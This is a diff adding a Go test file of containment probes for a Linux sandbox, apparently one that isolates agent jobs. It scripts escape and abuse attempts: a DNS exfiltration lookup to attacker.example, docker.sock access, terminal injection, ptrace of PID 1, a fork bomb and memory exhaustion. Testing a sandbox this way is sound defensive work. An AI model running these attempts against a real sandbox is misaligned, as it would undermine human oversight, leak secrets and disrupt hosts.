@@ -1,0 +1,362 @@
+//go:build linux && amd64
+
+package sandbox
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"slices"
+	"strconv"
+	"strings"
+	"syscall"
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/unix"
+)
+
+// probeArg is argv[1] of a probe: the binary re-executed inside the sandbox
+// runs one containment probe (issue 8 scope 6) and prints one JSON line.
+const probeArg = "__coagent8_sandbox_probe__"
+
+// probePath is where the probe binary is bound inside the sandbox.
+const probePath = "/job/probe"
+
+// int80 makes an ia32 system call through the int 0x80 gate.
+func int80(trap, a1, a2, a3 uintptr) uintptr
+
+// probeReport is a probe's one-line verdict from inside.
+type probeReport struct {
+	Contained bool   `json:"contained"`
+	Detail    string `json:"detail"`
+}
+
+// insideProbes run inside the sandbox. Each returns whether the attempt was
+// contained and what it observed.
+var insideProbes = map[string]func(args []string) (bool, string){
+	"write_outside": probeWriteOutside, "unix_sockets": probeUnixSockets, "tcp": probeTCP,
+	"udp": probeUDP, "dns": probeDNS, "ia32": probeIA32, "x32": probeX32, "mptcp": probeMPTCP,
+	"abstract": probeAbstract, "terminal": probeTerminal, "symlink_swap": probeSymlinks,
+	"fds": probeFDs, "proc": probeProc, "env": probeEnv, "userns": probeUserns,
+	"families": probeFamilies, "ptrace": probePtrace, "argv": probeArgv,
+	"tree_kill": probeTreeKill, "fork_bomb": probeForkBomb, "memory": probeMemory,
+	"_daemon": probeDaemon, "_sleeper": probeSleeper,
+}
+
+func probeMain(name string, args []string) int {
+	f, ok := insideProbes[name]
+	if !ok {
+		fmt.Fprintln(os.Stderr, "unknown probe")
+		return 2
+	}
+	c, d := f(args)
+	_ = json.NewEncoder(os.Stdout).Encode(probeReport{Contained: c, Detail: d})
+	return 0
+}
+
+// allFail runs attempts and reports contained when every one failed.
+func allFail(attempts map[string]error) (bool, string) {
+	var b strings.Builder
+	ok := true
+	for name, err := range attempts {
+		if err == nil {
+			ok = false
+			fmt.Fprintf(&b, "%s: SUCCEEDED; ", name)
+			continue
+		}
+		fmt.Fprintf(&b, "%s: %v; ", name, err)
+	}
+	return ok, b.String()
+}
+
+func probeWriteOutside(args []string) (bool, string) {
+	at := map[string]error{}
+	for _, p := range append([]string{"/etc/x", "/usr/x", "/x", "/job/x", "/dev/x", "/proc/sys/kernel/hostname"}, args...) {
+		at["write "+p] = os.WriteFile(p, []byte("x"), 0o644)
+	}
+	ok, d := allFail(at)
+	if err := os.WriteFile(insideWorkspace+"/ok", []byte("x"), 0o644); err != nil {
+		return false, "workspace not writable: " + err.Error()
+	}
+	return ok, d
+}
+
+func probeUnixSockets(args []string) (bool, string) {
+	at := map[string]error{}
+	for _, p := range append([]string{"/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/user/0/bus", "/tmp/.X11-unix/X0"}, args...) {
+		c, err := net.DialTimeout("unix", p, time.Second)
+		if err == nil {
+			c.Close()
+		}
+		at["connect "+p] = err
+	}
+	return allFail(at)
+}
+
+func probeTCP(args []string) (bool, string) {
+	at := map[string]error{}
+	for _, a := range []string{"127.0.0.1:" + args[0], "127.0.0.2:" + args[0], "[::1]:" + args[0], "1.1.1.1:443"} {
+		c, err := net.DialTimeout("tcp", a, time.Second)
+		if err == nil {
+			c.Close()
+		}
+		at["tcp "+a] = err
+	}
+	return allFail(at)
+}
+
+func probeUDP(args []string) (bool, string) {
+	at := map[string]error{}
+	for _, a := range []string{"127.0.0.1:" + args[0], "8.8.8.8:53"} {
+		c, err := net.Dial("udp", a)
+		if err == nil {
+			_, err = c.Write([]byte("probe"))
+			c.Close()
+		}
+		at["udp "+a] = err
+	}
+	return allFail(at)
+}
+
+func probeDNS([]string) (bool, string) {
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
+	defer cancel()
+	start := time.Now()
+	_, err := net.DefaultResolver.LookupHost(ctx, "c2VjcmV0.attacker.example")
+	took := time.Since(start)
+	if err == nil {
+		return false, "lookup succeeded"
+	}
+	return took < time.Second, fmt.Sprintf("lookup failed after %v: %v", took.Round(time.Millisecond), err)
+}
+
+// probeIA32 expects to be killed (SIGSYS) by the architecture check.
+func probeIA32([]string) (bool, string) {
+	r := int80(359, unix.AF_INET6, unix.SOCK_STREAM, 0) // ia32 socket()
+	return false, fmt.Sprintf("ia32 socket returned %d", int64(r))
+}
+
+func probeX32([]string) (bool, string) {
+	r, _, e := unix.RawSyscall(x32SyscallBit|unix.SYS_GETPID, 0, 0, 0)
+	return false, fmt.Sprintf("x32 getpid returned %d errno %v", r, e)
+}
+
+func probeMPTCP([]string) (bool, string) {
+	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 262) // IPPROTO_MPTCP
+	if err == nil {
+		unix.Close(fd)
+	}
+	return allFail(map[string]error{"mptcp socket": err})
+}
+
+func probeAbstract(args []string) (bool, string) {
+	c, err := net.DialTimeout("unix", "@"+args[0], time.Second)
+	if err == nil {
+		c.Close()
+	}
+	return allFail(map[string]error{"abstract @" + args[0]: err})
+}
+
+// probeTerminal requires EPERM (the filter), not ENOTTY (which would only
+// mean fd 1 is not a terminal).
+func probeTerminal([]string) (bool, string) {
+	b := byte('x')
+	var errs []string
+	ok := true
+	for _, req := range []uint64{unix.TIOCSTI, unix.TIOCSTI | 1<<32, unix.TIOCLINUX} {
+		_, _, e := unix.Syscall(unix.SYS_IOCTL, 1, uintptr(req), uintptr(unsafe.Pointer(&b)))
+		ok = ok && e == unix.EPERM
+		errs = append(errs, fmt.Sprintf("ioctl %#x: %v", req, e))
+	}
+	f, err := os.Open("/dev/tty")
+	if err == nil {
+		f.Close()
+		ok = false
+	}
+	return ok, strings.Join(errs, "; ") + fmt.Sprintf("; open /dev/tty: %v", err)
+}
+
+func probeSymlinks(args []string) (bool, string) {
+	links := map[string]string{"out": "/etc/passwd", "dir": "/", "canary": args[0]}
+	for name, target := range links {
+		_ = os.Symlink(target, insideArtifacts+"/"+name)
+	}
+	_ = os.Symlink(args[0], insideWorkspace+"/link")
+	werr := os.WriteFile(insideWorkspace+"/link", []byte("overwritten"), 0o644)
+	if err := os.WriteFile(insideArtifacts+"/ok.txt", []byte("artifact"), 0o644); err != nil {
+		return false, "artifacts not writable: " + err.Error()
+	}
+	return true, fmt.Sprintf("write through workspace link: %v", werr)
+}
+
+func probeFDs([]string) (bool, string) {
+	ents, err := os.ReadDir("/proc/self/fd")
+	if err != nil {
+		return false, "cannot list fds: " + err.Error()
+	}
+	var extra []string
+	for _, e := range ents {
+		n, _ := strconv.Atoi(e.Name())
+		if n > 2 {
+			if t, _ := os.Readlink("/proc/self/fd/" + e.Name()); !strings.HasPrefix(t, "/proc/") {
+				extra = append(extra, e.Name()+"->"+t)
+			}
+		}
+	}
+	at := map[string]error{}
+	for _, p := range []string{"/proc/self/exe", "/proc/1/exe"} {
+		f, err := os.OpenFile(p, os.O_WRONLY, 0)
+		if err == nil {
+			f.Close()
+		}
+		at["write "+p] = err
+	}
+	ok, d := allFail(at)
+	return ok && len(extra) == 0, fmt.Sprintf("extra fds %v; %s", extra, d)
+}
+
+func probeProc([]string) (bool, string) {
+	ents, _ := os.ReadDir("/proc")
+	var pids []int
+	for _, e := range ents {
+		if n, err := strconv.Atoi(e.Name()); err == nil {
+			pids = append(pids, n)
+		}
+	}
+	env, envErr := os.ReadFile("/proc/1/environ")
+	_, rootErr := os.Readlink("/proc/1/root")
+	ok := len(pids) > 0 && len(pids) <= 4 && len(env) == 0 && rootErr != nil
+	for _, p := range pids {
+		ok = ok && p < 100
+	}
+	return ok, fmt.Sprintf("pids %v; /proc/1/environ %d bytes (%v); /proc/1/root: %v", pids, len(env), envErr, rootErr)
+}
+
+func probeEnv([]string) (bool, string) {
+	names := envNames(os.Environ())
+	return true, strings.Join(names, ",")
+}
+
+func probeUserns([]string) (bool, string) {
+	_, _, clone3 := unix.RawSyscall(unix.SYS_CLONE3, 0, 0, 0)
+	at := map[string]error{
+		"unshare user":  unix.Unshare(unix.CLONE_NEWUSER),
+		"unshare mount": unix.Unshare(unix.CLONE_NEWNS),
+		"setns":         unix.Setns(0, 0),
+		"mount tmpfs":   unix.Mount("x", "/tmp", "tmpfs", 0, ""),
+		"clone3":        errnoOrNil(clone3),
+	}
+	ok, d := allFail(at)
+	return ok && clone3 == unix.ENOSYS, d
+}
+
+func errnoOrNil(e syscall.Errno) error {
+	if e == 0 {
+		return nil
+	}
+	return e
+}
+
+func probeFamilies([]string) (bool, string) {
+	at := map[string]error{}
+	_, _, e := unix.RawSyscall(unix.SYS_IO_URING_SETUP, 1, 0, 0)
+	at["io_uring_setup"] = errnoOrNil(e)
+	fams := []struct {
+		name           string
+		dom, typ, prot int
+	}{{"AF_INET", unix.AF_INET, unix.SOCK_STREAM, 0}, {"AF_INET6", unix.AF_INET6, unix.SOCK_DGRAM, 0},
+		{"AF_VSOCK", unix.AF_VSOCK, unix.SOCK_STREAM, 0}, {"AF_PACKET", unix.AF_PACKET, unix.SOCK_RAW, 0},
+		{"AF_NETLINK audit", unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_AUDIT},
+		{"AF_ALG", unix.AF_ALG, unix.SOCK_SEQPACKET, 0}, {"AF_BLUETOOTH", unix.AF_BLUETOOTH, unix.SOCK_STREAM, 0}}
+	for _, f := range fams {
+		fd, err := unix.Socket(f.dom, f.typ, f.prot)
+		if err == nil {
+			unix.Close(fd)
+		}
+		at[f.name] = err
+	}
+	return allFail(at)
+}
+
+func probePtrace([]string) (bool, string) {
+	_, _, pe := unix.RawSyscall(unix.SYS_PTRACE, unix.PTRACE_ATTACH, 1, 0)
+	buf := make([]byte, 8)
+	local := []unix.Iovec{{Base: &buf[0], Len: 8}}
+	remote := []unix.RemoteIovec{{Base: 0x400000, Len: 8}}
+	_, vmErr := unix.ProcessVMReadv(1, local, remote, 0)
+	return allFail(map[string]error{"ptrace attach 1": errnoOrNil(pe), "process_vm_readv 1": vmErr})
+}
+
+func probeArgv(args []string) (bool, string) {
+	b, _ := json.Marshal(args)
+	return true, string(b)
+}
+
+// probeTreeKill leaves a double-forked, setsid, SIGTERM-ignoring daemon
+// behind and waits to be cancelled (notes test 14).
+func probeTreeKill([]string) (bool, string) {
+	cmd := exec.Command(probePath, probeArg, "_daemon")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+	if err := cmd.Run(); err != nil {
+		return false, "daemon start failed: " + err.Error()
+	}
+	fmt.Println("ready")
+	time.Sleep(time.Hour)
+	return false, "not cancelled"
+}
+
+func probeDaemon([]string) (bool, string) {
+	cmd := exec.Command(probePath, probeArg, "_sleeper")
+	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+	err := cmd.Start()
+	return err == nil, fmt.Sprint(err)
+}
+
+func probeSleeper([]string) (bool, string) {
+	ignoreTermination()
+	for {
+		_ = os.WriteFile(insideScratch+"/tick", []byte(time.Now().String()), 0o644)
+		time.Sleep(50 * time.Millisecond)
+	}
+}
+
+// probeForkBomb starts sleepers until the pids limit refuses one.
+func probeForkBomb([]string) (bool, string) {
+	for n := 0; n < 5000; n++ {
+		cmd := exec.Command(probePath, probeArg, "_sleeper")
+		if err := cmd.Start(); err != nil {
+			return errors.Is(err, syscall.EAGAIN), fmt.Sprintf("stopped after %d processes: %v", n, err)
+		}
+	}
+	return false, "5000 processes started"
+}
+
+// probeMemory touches memory until the memory limit kills it.
+func probeMemory([]string) (bool, string) {
+	var keep [][]byte
+	for i := 0; i < 256; i++ {
+		b := make([]byte, 16<<20)
+		for j := range b {
+			if j%4096 == 0 {
+				b[j] = 1
+			}
+		}
+		keep = append(keep, b)
+	}
+	return false, fmt.Sprintf("allocated %d MiB", len(keep)*16)
+}
+
+func sortStrings(s []string) { slices.Sort(s) }
+
+// leakableFD opens a file without O_CLOEXEC (a descriptor a careless
+// library might leave inheritable).
+func leakableFD(dir string) (int, error) {
+	return unix.Open(dir, unix.O_RDONLY|unix.O_DIRECTORY, 0)
+}
+
+func closeFD(fd int) { unix.Close(fd) }
